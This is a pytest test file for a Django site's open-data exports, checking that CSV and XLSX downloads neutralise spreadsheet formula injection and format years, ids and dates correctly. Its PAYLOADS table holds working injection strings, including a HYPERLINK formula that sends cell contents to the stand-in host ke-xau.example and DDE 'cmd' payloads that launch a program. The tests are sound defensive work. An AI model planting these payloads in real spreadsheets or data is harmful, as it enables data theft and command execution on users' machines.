"""Formula injection (issue 13, item 1): text an officer writes through the real admin forms and the
import lands in every download neutralised. Each OWASP prefix (= + - @ tab CR) is planted, every
download is read back with csv and openpyxl, and no text cell may start a formula; XLSX text cells
are string cells. Also (issue 19): years and ids without thousands separators, dates in the site's
time zone, a frozen and filtered header row in every XLSX."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from core.spreadsheets import FORMULA_PREFIXES, neutralise, restore
from initiatives.models import InitiativePage
from core.roles import COMMUNE_OFFICERS, EDITORS
from rollout.models import Adoption, ImportJob, Metric, Observation
from tests.factories import UnitFactory, make_initiative, make_member
from tests.import_files import csv_bytes

PAYLOADS = {
    "=": '=HYPERLINK("http://ke-xau.example/?d="&B2,"Bấm vào đây")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _snippet(model, view):
    return reverse(f"wagtailsnippets_rollout_{model}:{view}")


@pytest.fixture
def planted(site, province, commune, other_commune, client, django_capture_on_commit_callbacks):
    """Each payload as an initiative title, an adoption's responsible office (admin form), an
    observation's source (admin form) and an imported source; and a rejected import value."""
    officer = make_member(COMMUNE_OFFICERS, other_commune, username="canbo_tancong")
    pages = {}
    for prefix, payload in PAYLOADS.items():
        pages[prefix] = make_initiative(site["index"], commune, title=payload + f" ({ord(prefix)})")
    client.force_login(officer)
    sipas = Metric.objects.get(code="sipas")
    for year, (prefix, payload) in enumerate(PAYLOADS.items(), start=2015):
        response = client.post(_snippet("adoption", "add"), {
            "initiative": pages[prefix].pk, "unit": other_commune.pk, "replicated_from_adoption": "",
            "status": "piloting", "status_date": "", "status_note": "", "start_date": "2024-04-01",
            "responsible_office": payload, "notes": ""})
        assert response.status_code == 302, response.content.decode()[:3000]
        response = client.post(_snippet("observation", "add"), {
            "unit": other_commune.pk, "metric": sipas.pk, "period_text": str(year), "adoption": "",
            "value": "97,5", "source": payload})
        assert response.status_code == 302, response.content.decode()[:3000]
    # Django's form fields strip a leading tab or CR; whatever reached the database is what an
    # attacker got in, and it must come out neutralised.
    stored = set(Adoption.objects.values_list("responsible_office", flat=True))
    assert {p for p in stored if p.startswith("=")}  # the live formula really was stored
    # The import: a valid row with a formula source, then a file with rejected formula values.
    rows = [["Mã đơn vị", "Chỉ tiêu", "Kỳ", "Giá trị", "Nguồn"],
            [other_commune.key, "sipas", "2010", "90", "=1+2"]]
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("rollout_import"), {"file": SimpleUploadedFile("tot.csv", csv_bytes(rows, "utf-8", ";")),
                                                "valid_only": "0"})
    assert Observation.objects.filter(source="=1+2").exists()
    bad = [["Mã đơn vị", "Chỉ tiêu", "Kỳ", "Giá trị"],
           [other_commune.key, "sipas", "2011", '=HYPERLINK("http://ke-xau.example","x")'],
           ["@evil", "sipas", "2011", "1"], [other_commune.key, "+sipas", "-2012", "1"]]
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("rollout_import"), {"file": SimpleUploadedFile("=loi.csv", csv_bytes(bad, "utf-8", ";")),
                                                "valid_only": "0"})
    job = ImportJob.objects.get(original_name="=loi.csv")
    assert job.errors
    return {"officer": officer, "pages": pages, "job": job}


def _csv(content):
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def _content(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def _assert_csv_safe(rows, *, numeric_columns=()):
    for row in rows:
        for index, cell in enumerate(row):
            if index in numeric_columns:
                continue
            assert not cell.startswith(FORMULA_PREFIXES), (cell, row)


def _assert_xlsx_safe(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book.worksheets[0]
    texts = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_PREFIXES), (cell.coordinate, cell.value)
                texts.append(cell.value)
    return sheet, texts


def test_every_download_neutralises_every_prefix(client, planted):
    client.logout()
    downloads = ["/du-lieu-mo/sang-kien", "/du-lieu-mo/nhan-rong", "/du-lieu-mo/so-lieu", "/so-lieu/xuat"]
    seen = {}
    for base in downloads:
        rows = _csv(_content(client.get(base + ".csv")))
        header = rows[0]
        # numbers the site writes (a value of -5 is "-5", a number, not a formula text)
        numeric = {i for i, h in enumerate(header) if h in ("Giá trị",)}
        _assert_csv_safe(rows, numeric_columns=numeric)
        for row in rows[1:]:
            for index, cell in enumerate(row):
                if index in numeric:
                    assert cell in ("97,5", "-5", "90"), cell
        seen[base + ".csv"] = "\n".join(";".join(r) for r in rows)
        response = client.get(base + ".xlsx")
        assert response.status_code == 200
        sheet, texts = _assert_xlsx_safe(_content(response))
        seen[base + ".xlsx"] = "\n".join(texts)
    # The payloads are there, shown as text with the apostrophe, not dropped.
    formula = PAYLOADS["="]
    for name in ("/du-lieu-mo/sang-kien.csv", "/du-lieu-mo/sang-kien.xlsx", "/du-lieu-mo/nhan-rong.csv",
                 "/du-lieu-mo/nhan-rong.xlsx", "/du-lieu-mo/so-lieu.csv", "/so-lieu/xuat.xlsx"):
        assert "'" + formula in seen[name], name
    assert "'@SUM(1+1)" in seen["/du-lieu-mo/nhan-rong.csv"]
    assert "'\t=1+1" in seen["/du-lieu-mo/sang-kien.csv"] and "'\r=1+1" in seen["/du-lieu-mo/sang-kien.xlsx"]
    assert "'=1+2" in seen["/so-lieu/xuat.csv"]  # the imported source


def test_import_error_report_is_neutralised(client, planted):
    response = client.get(reverse("rollout_import_errors", args=[planted["job"].pk]))
    rows = _csv(response.content)
    assert len(rows) > 2
    _assert_csv_safe(rows, numeric_columns={0})  # column 0 is the row number the site writes
    text = "\n".join(";".join(r) for r in rows)
    assert "'=HYPERLINK(" in text and "'@evil" in text


def test_leaderboard_exports_neutralise_unit_names(site, province, client):
    from campaigns.actions import correct_points, enrol_unit
    from campaigns.leaderboard import refresh_leaderboard
    from tests.factories import make_campaign

    campaign = make_campaign()
    editor = make_member(EDITORS)
    unit = UnitFactory(code="29999", key="29999", name='=HYPERLINK("http://x")', parent=province)
    enrol_unit(editor, campaign, unit)
    correct_points(editor, campaign, unit, 5, "Điểm thử nghiệm")
    refresh_leaderboard(campaign)
    rows = _csv(client.get(f"/thi-dua/{campaign.slug}/bang-xep-hang.csv").content)
    _assert_csv_safe(rows)
    assert any("'=HYPERLINK(" in cell for row in rows for cell in row)
    sheet, texts = _assert_xlsx_safe(client.get(f"/thi-dua/{campaign.slug}/bang-xep-hang.xlsx").content)
    assert "'=HYPERLINK(\"http://x\")" in texts
    assert sheet.freeze_panes == "A3" and sheet.auto_filter.ref.startswith("A2:G")


def test_exported_file_imports_back_unchanged(client, planted, django_capture_on_commit_callbacks):
    """The apostrophe is ours: the importer reads it back as the text it was."""
    export = _content(client.get("/so-lieu/xuat.csv"))
    before = dict(Observation.objects.values_list("pk", "source"))
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("rollout_import"), {"file": SimpleUploadedFile("lai.csv", export), "valid_only": "0"})
    job = ImportJob.objects.get(original_name="lai.csv")
    assert job.errors == [] and job.created_count == 0 and job.updated_count == 0, (job.message, job.errors)
    assert dict(Observation.objects.values_list("pk", "source")) == before


def test_neutralise_and_restore_are_inverse():
    for payload in [*PAYLOADS.values(), "Báo cáo", "'quoted", "", "-"]:
        assert restore(neutralise(payload)) == payload
        assert not neutralise(payload).startswith(FORMULA_PREFIXES)
    assert neutralise(-5) == -5 and neutralise(None) is None


def test_years_ids_dates_and_header_row(site, commune, client):
    """Issue 19: "Năm" 2024 not "2.024", ids plain, first publication in Vietnam's time zone, and the
    XLSX header frozen with an auto-filter."""
    page = make_initiative(site["index"], commune, title="Sáng kiến đêm giao thừa")
    # 31/12/2023 17:30 UTC is 01/01/2024 00:30 in Hanoi.
    moment = datetime.datetime(2023, 12, 31, 17, 30, tzinfo=datetime.timezone.utc)
    InitiativePage.objects.filter(pk=page.pk).update(first_published_at=moment)
    rows = _csv(_content(client.get("/du-lieu-mo/sang-kien.csv")))
    item = dict(zip(rows[0], rows[1]))
    assert item["Năm"] == "2024" and item["Ngày đăng"] == "01/01/2024"
    assert item["Mã sáng kiến"] == str(page.pk) and "." not in item["Mã sáng kiến"]
    assert timezone.localdate(moment) == datetime.date(2024, 1, 1)
    for base in ("/du-lieu-mo/sang-kien", "/du-lieu-mo/don-vi", "/so-lieu/xuat"):
        sheet = openpyxl.load_workbook(io.BytesIO(_content(client.get(base + ".xlsx")))).worksheets[0]
        assert sheet.freeze_panes == "A2", base
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:"), base
    sheet = openpyxl.load_workbook(io.BytesIO(_content(client.get("/du-lieu-mo/sang-kien.xlsx")))).worksheets[0]
    values = dict(zip([c.value for c in sheet[1]], [c.value for c in sheet[2]]))
    assert values["Năm"] == 2024 and values["Ngày đăng"] == datetime.datetime(2024, 1, 1)


def test_large_year_and_id_never_get_a_separator():
    from opendata.exports import _csv_cell
    from opendata.registry import get

    columns = {c.key: c for c in get("initiatives").columns}
    assert _csv_cell(2024, columns["year"]).text == "2024"
    assert _csv_cell(123456, columns["id"]).text == "123456"
    assert _csv_cell(123456, columns["adoption_count"]).text == "123.456"
